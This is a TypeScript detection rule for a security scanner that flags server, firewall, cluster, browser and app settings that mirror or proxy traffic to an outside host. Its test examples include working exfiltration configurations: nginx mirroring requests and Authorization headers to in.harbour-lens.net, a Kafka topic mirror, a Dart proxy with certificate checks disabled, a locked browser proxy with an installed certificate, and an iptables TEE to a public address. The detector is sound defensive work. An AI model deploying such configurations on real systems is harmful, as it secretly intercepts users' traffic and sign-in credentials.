import type { Document } from '../../document.ts'
import { defineRule, type Hit, placeOf } from '../../rule.ts'
import { candidates } from '../../signals/candidates.ts'
import { isForeignFor, isLocal, isStandIn } from '../../signals/hosts.ts'
import { snippets } from '../../signals/snippets.ts'
import { worded } from '../../wording.ts'

interface Way {
  /** Where traffic goes; the host or the address is its first group. */
  readonly sends: RegExp
  /** What stands in the same settings when it is more than the way to one's own program. */
  readonly beside?: RegExp
}

const way = (sends: RegExp, beside?: RegExp): Way => ({
  sends: worded(sends),
  ...(beside && { beside }),
})

/** Ways to hand on, or to copy, what passes through a server, a firewall, a cluster, a browser or an app. */
const WAYS: readonly Way[] = [
  way(
    /\bproxy_pass\s{1,4}(https?:\/\/[^\s;$]{4,120})/g,
    /\bmirror\s{1,4}\/|\bmirror_request_body\b/,
  ),
  way(
    /\btarget\.cluster\.bootstrap\.servers["']?\s?[:=]\s?["']?([\w.-]{4,80})/g,
    /\bmirrorsourceconnector\b/,
  ),
  way(/"certificates"\s?:[^]{0,160}?"httpproxy"\s?:\s?"([\w.-]{4,80})/g),
  way(/\bfindproxy\b[^\n]{0,40}?\bproxy ([\w.-]{4,80})/g, /\bbadcertificatecallback\b/),
]

/** A firewall names a machine by its number, which says nothing of whose it is: those of a net of one's own are left out. */
const TEE = worded(
  /-j tee --gateway (?!10\.|127\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|\$)\S{4,60}/g,
)

/** What people are signed in with goes along. */
const SIGN_IN = /\$http_(?:authorization|cookie)\b/

export default defineRule({
  id: 'tapped-traffic',
  since: 1,
  category: 'exfiltration',
  severity: 'high',
  confidence: 'high',
  cwe: 'CWE-201',
  title: 'Has a server send a stranger what passes through it',
  description:
    'The settings of a server or a firewall copy all requests to a host that the text gives no reason for. It reads what visitors send, their sign-in included, and nobody sees it.',
  remediation: 'Remove the copy, or mirror to a host of the same house and say so.',
  harmlessIf: 'the host belongs to those who run the server',
  needs: [],
  examples: {
    fires: [
      '```nginx\nlocation / { mirror /_m; proxy_pass http://app; }\nlocation = /_m {\n  internal;\n  proxy_pass https://in.harbour-lens.net$request_uri;\n}\n```\n',
      '```nginx\nmirror /copy;\nlocation /copy {\n  proxy_pass https://in.harbour-lens.net;\n  proxy_set_header Authorization $http_authorization;\n}\n```\n',
      '```json\n{ "connector.class": "org.apache.kafka.connect.mirror.MirrorSourceConnector", "target.cluster.bootstrap.servers": "b1.harbour-lens.net:9092", "topics": ".*" }\n```\n',
      "```dart\nreturn super.createHttpClient(c)\n  ..findProxy = ((_) => 'PROXY in.harbour-lens.net:8443')\n  ..badCertificateCallback = (cert, host, port) => true;\n```\n",
      '```json\n{ "policies": { "Certificates": { "Install": ["/tmp/lens.pem"] }, "Proxy": { "HTTPProxy": "in.harbour-lens.net:8080", "Locked": true } } }\n```\n',
      '```bash\niptables -t mangle -A PREROUTING -p tcp --dport 80 -j TEE --gateway 81.2.69.160\n```\n',
    ],
    quiet: [
      '```nginx\nlocation / { mirror /_m; proxy_pass http://app; }\nlocation = /_m { proxy_pass http://staging_pool$request_uri; }\n```\n',
      '```nginx\nlocation /api/ { proxy_pass https://api.example.com; }\n```\n',
      '```bash\niptables -t mangle -A PREROUTING -j TEE --gateway 10.0.0.9\n```\n',
    ],
  },
  *match(document: Document): Iterable<Hit> {
    const { text } = document.reading
    const all = document.observe(snippets)
    for (const { sends, beside } of WAYS)
      for (const { start, end } of candidates(document, all, sends)) {
        const snippet = text.slice(start, end)
        if (beside && !beside.test(snippet)) continue
        for (const found of snippet.matchAll(sends))
          if (isStrangers(document, found[1]!))
            yield {
              ...placeOf(start, found),
              firm: true,
              ...(SIGN_IN.test(snippet) && { severity: 'crit' as const }),
            }
      }
    for (const { start, end } of candidates(document, all, TEE))
      for (const found of text.slice(start, end).matchAll(TEE))
        yield { ...placeOf(start, found), firm: true }
  },
})

/** A name without a dot is a pool of servers of the same settings. */
function isStrangers(document: Document, target: string): boolean {
  const address = target.includes('://') ? target : `https://${target}`
  return (
    /\.[a-z]/.test(address) &&
    !isLocal(address) &&
    !isStandIn(address) &&
    isForeignFor(document, address)
  )
}
